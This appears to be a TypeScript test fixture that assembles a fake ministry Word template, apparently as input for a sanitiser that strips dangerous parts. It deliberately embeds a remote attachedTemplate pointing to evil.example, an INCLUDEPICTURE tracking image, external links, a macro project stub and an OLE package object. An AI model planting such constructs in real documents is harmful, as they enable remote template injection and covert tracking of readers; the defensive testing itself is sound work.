import { strToU8, zipSync } from 'fflate';

/** A ministry's template as Word writes one, with what must not come along: links, macros, objects, tricks. */
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const rels = (...lines: readonly string[]): string => `${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;
const rel = (id: string, type: string, target: string, mode = ''): string => `<Relationship Id="${id}" Type="${relations}/${type}" Target="${target}"${mode}/>`;
const outside = ' TargetMode="External"';

/** One pixel, violet. */
export const pixel = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwAEAQH/7yMK/gAAAABJRU5ErkJggg=='), (char) => char.charCodeAt(0));

const drawing = (id: string): string =>
  `<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="457200" cy="457200"/><wp:docPr id="7" name="Crest"><a:hlinkClick r:id="rIdOut"/></wp:docPr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="Crest"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="457200" cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

const header = `${xml}<w:hdr ${w} mc:Ignorable="w14"><w:p w14:paraId="1"><w:pPr><w:pStyle w:val="Entete"/></w:pPr>${drawing('rIdCrest')}<w:r><w:t>REPUBLIC OF EXAMPLE, MINISTRY OF PLANNING</w:t></w:r><w:hyperlink r:id="rIdOut"><w:r><w:t> www.planning.example</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "https://evil.example/spy.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept words</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>${drawing('rIdRemote')}<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:t>TRICK</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t> and fallback</w:t></w:r></mc:Fallback></mc:AlternateContent><w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr><w:sdtContent><w:r><w:t> and bound</w:t></w:r></w:sdtContent></w:sdt></w:p></w:hdr>`;

const footer = `${xml}<w:ftr ${w}><w:p><w:pPr><w:pStyle w:val="Pieddepage"/><w:jc w:val="right"/></w:pPr><w:r><w:t>Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>`;

const styles = `${xml}<w:styles ${w}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi" w:eastAsiaTheme="minorEastAsia" w:cstheme="minorBidi"/><w:sz w:val="24"/><w:szCs w:val="24"/><w:lang w:val="fr-FR"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after="160" w:line="276" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults>
<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/><w:qFormat/><w:pPr><w:bidi/></w:pPr></w:style>
<w:style w:type="paragraph" w:styleId="Titre1"><w:name w:val="heading 1"/><w:basedOn w:val="Base"/><w:next w:val="Normal"/><w:link w:val="Titre1Car"/><w:uiPriority w:val="9"/><w:qFormat/><w:pPr><w:keepNext/><w:numPr><w:numId w:val="4"/></w:numPr><w:spacing w:before="400"/><w:jc w:val="left"/><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/><w:b/><w:color w:val="7A1FA2"/><w:sz w:val="36"/></w:rPr></w:style>
<w:style w:type="paragraph" w:customStyle="1" w:styleId="Base"><w:name w:val="Ministry Base"/><w:basedOn w:val="Normal"/><w:rPr><w:smallCaps/></w:rPr></w:style>
<w:style w:type="paragraph" w:customStyle="1" w:styleId="Contribution"><w:name w:val="Tax Contribution"/><w:basedOn w:val="Normal"/><w:rPr><w:color w:val="FF0000"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="Titre"><w:name w:val="Title"/><w:basedOn w:val="Normal"/><w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/><w:sz w:val="60"/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="TM1"><w:name w:val="toc 1"/><w:basedOn w:val="Normal"/><w:pPr><w:tabs><w:tab w:val="right" w:pos="9000"/></w:tabs></w:pPr><w:rPr><w:caps/></w:rPr></w:style>
<w:style w:type="paragraph" w:styleId="Entete"><w:name w:val="header"/><w:basedOn w:val="Normal"/></w:style>
<w:style w:type="paragraph" w:styleId="Pieddepage"><w:name w:val="footer"/><w:basedOn w:val="Normal"/></w:style>
<w:style w:type="table" w:styleId="Grille"><w:name w:val="Ministry Grid"/><w:tblPr><w:tblBorders><w:top w:val="single" w:sz="4" w:space="0" w:color="auto"/></w:tblBorders></w:tblPr></w:style></w:styles>`;

const theme = (font: string): string =>
  `${xml}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Ministry"><a:themeElements><a:clrScheme name="M"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1>${['dk2', 'lt2', 'accent1', 'accent2', 'accent3', 'accent4', 'accent5', 'accent6', 'hlink', 'folHlink'].map((name) => `<a:${name}><a:srgbClr val="7A1FA2"/></a:${name}>`).join('')}</a:clrScheme><a:fontScheme name="M"><a:majorFont><a:latin typeface="Georgia"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="${font}"/><a:ea typeface=""/><a:cs typeface=""/><a:font script="Arab" typeface="Arial"/></a:minorFont></a:fontScheme><a:fmtScheme name="M"><a:fillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(3)}</a:fillStyleLst><a:lnStyleLst>${'<a:ln w="6350"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln>'.repeat(3)}</a:lnStyleLst><a:effectStyleLst>${'<a:effectStyle><a:effectLst/></a:effectStyle>'.repeat(3)}</a:effectStyleLst><a:bgFillStyleLst>${'<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'.repeat(3)}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;

const parts: Readonly<Record<string, string | Uint8Array>> = {
  '[Content_Types].xml': `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"/></Types>`,
  '_rels/.rels': rels(rel('rId1', 'officeDocument', 'word/document.xml'), rel('rId2', 'attachedTemplate', 'https://evil.example/t.dotm', outside)),
  'word/document.xml': `${xml}<w:document ${w}><w:body><w:p><w:r><w:t>SECRET BODY OF THE TEMPLATE</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:footerReference w:type="default" r:id="rId3"/><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1701" w:right="1134" w:bottom="1417" w:left="1134" w:header="567" w:footer="567" w:gutter="0"/></w:sectPr></w:body></w:document>`,
  'word/_rels/document.xml.rels': rels(rel('rId1', 'styles', 'styles.xml'), rel('rId2', 'header', 'header1.xml'), rel('rId3', 'footer', 'footer1.xml'), rel('rId4', 'theme', 'theme/theme1.xml'), rel('rId5', 'vbaProject', 'vbaProject.bin')),
  'word/header1.xml': header,
  'word/_rels/header1.xml.rels': rels(rel('rIdCrest', 'image', 'media/crest.png'), rel('rIdRemote', 'image', 'https://evil.example/spy.png', outside), rel('rIdOut', 'hyperlink', 'https://evil.example/', outside), rel('rIdOle', 'oleObject', 'embeddings/o.bin')),
  'word/footer1.xml': footer,
  'word/styles.xml': styles,
  'word/theme/theme1.xml': theme('Verdana'),
  'word/media/crest.png': pixel,
  'word/vbaProject.bin': new Uint8Array([1, 2, 3]),
  'word/embeddings/o.bin': new Uint8Array([1, 2, 3]),
};

/** The template's bytes, with parts replaced or, where null, left out. */
export function ministryTemplate(changed: Readonly<Record<string, string | Uint8Array | null>> = {}): Uint8Array {
  const all = Object.entries({ ...parts, ...changed }).flatMap(([name, part]) => (part === null ? [] : [[name, typeof part === 'string' ? strToU8(part) : part] as const]));
  return zipSync(Object.fromEntries(all));
}
